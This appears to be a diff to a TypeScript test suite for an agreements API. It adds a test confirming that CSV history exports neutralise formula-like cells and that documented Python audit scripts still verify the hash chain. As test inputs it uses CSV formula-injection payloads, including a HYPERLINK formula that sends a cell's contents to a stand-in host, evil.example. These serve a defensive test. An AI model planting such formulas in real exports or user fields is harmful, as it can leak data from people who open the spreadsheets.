@@ -336,14 +336,17 @@ describe('history requests that go wrong', () => {
   });
 });
 
-/** The code blocks of docs/auditing.md marked as tested, in order: the Python script, then the jq pipeline. */
-function documentedRecipes(): { python: string; jq: string } {
+/** The code blocks of docs/auditing.md marked as tested: the CSV converter, the verifier, the jq pipeline. */
+function documentedRecipes(): { python: string; csvToNdjson: string; jq: string } {
   const markdown = readFileSync(new URL('../../docs/auditing.md', import.meta.url), 'utf8');
   const blocks = [...markdown.matchAll(/<!-- tested:[^>]*-->\n```(\w+)\n([\s\S]*?)\n```/g)];
-  const python = blocks.find((block) => block[1] === 'python')?.[2];
+  const pythonWith = (name: string) =>
+    blocks.find((block) => block[1] === 'python' && block[2]!.includes(name))?.[2];
+  const python = pythonWith('def verify(');
+  const csvToNdjson = pythonWith('def to_event(');
   const jq = blocks.find((block) => block[1] === 'bash')?.[2];
-  if (!python || !jq) throw new Error('docs/auditing.md lost its tested recipes');
-  return { python, jq };
+  if (!python || !csvToNdjson || !jq) throw new Error('docs/auditing.md lost its tested recipes');
+  return { python, csvToNdjson, jq };
 }
 
 const hasTool = (command: string, ...args: string[]) => spawnSync(command, args).status === 0;
@@ -393,6 +396,51 @@ describe('docs/auditing.md: "How to verify independently"', () => {
       expect(edited.stdout.trim()).toBe('FAIL at seq 502: hash does not match the content');
       expect(edited.status).toBe(1);
       expect(run(export_, '0'.repeat(64)).status).toBe(1);
+    },
+  );
+
+  test.skipIf(!hasTool('python3', '--version'))(
+    'the CSV neutralises formula-like cells, and the chain still verifies from it',
+    async () => {
+      // An identity provider that lets users pick a subject like a formula.
+      const hostile = await api.local.issuer.mint({
+        role: 'secretariat',
+        sub: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+      });
+      const path = `/v1/agreements/${otherAgreementId}`;
+      expect((await api.request('POST', `${path}/open`, { token: hostile })).status).toBe(200);
+      const declined = await api.request('POST', `${path}/signatories/KAZ/decline`, {
+        token: hostile,
+        body: { reason: '@SUM(1+1)' },
+      });
+      expect(declined.status).toBe(200);
+      const csv = await getText(api, `${path}/history`, { token: auditor, accept: 'text/csv' });
+      expect(csv.text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"');
+      for (const row of parseCsv(csv.text)) {
+        for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+      }
+
+      const { python, csvToNdjson } = documentedRecipes();
+      writeFileSync(join(dir, 'verify_chain.py'), python);
+      writeFileSync(join(dir, 'csv_to_ndjson.py'), csvToNdjson);
+      writeFileSync(join(dir, 'history.csv'), csv.text);
+      const converted = spawnSync(
+        'python3',
+        ['csv_to_ndjson.py', 'history.csv', otherAgreementId],
+        {
+          cwd: dir,
+          encoding: 'utf8',
+        },
+      );
+      expect(converted.stderr).toBe('');
+      writeFileSync(join(dir, 'history.ndjson'), converted.stdout);
+      const head = csv.headers.get('x-chain-head-hash')!;
+      const verified = spawnSync('python3', ['verify_chain.py', 'history.ndjson', head], {
+        cwd: dir,
+        encoding: 'utf8',
+      });
+      expect(verified.stdout.trim()).toBe(`OK: 3 events, head ${head}`);
+      expect(verified.status).toBe(0);
     },
   );
 
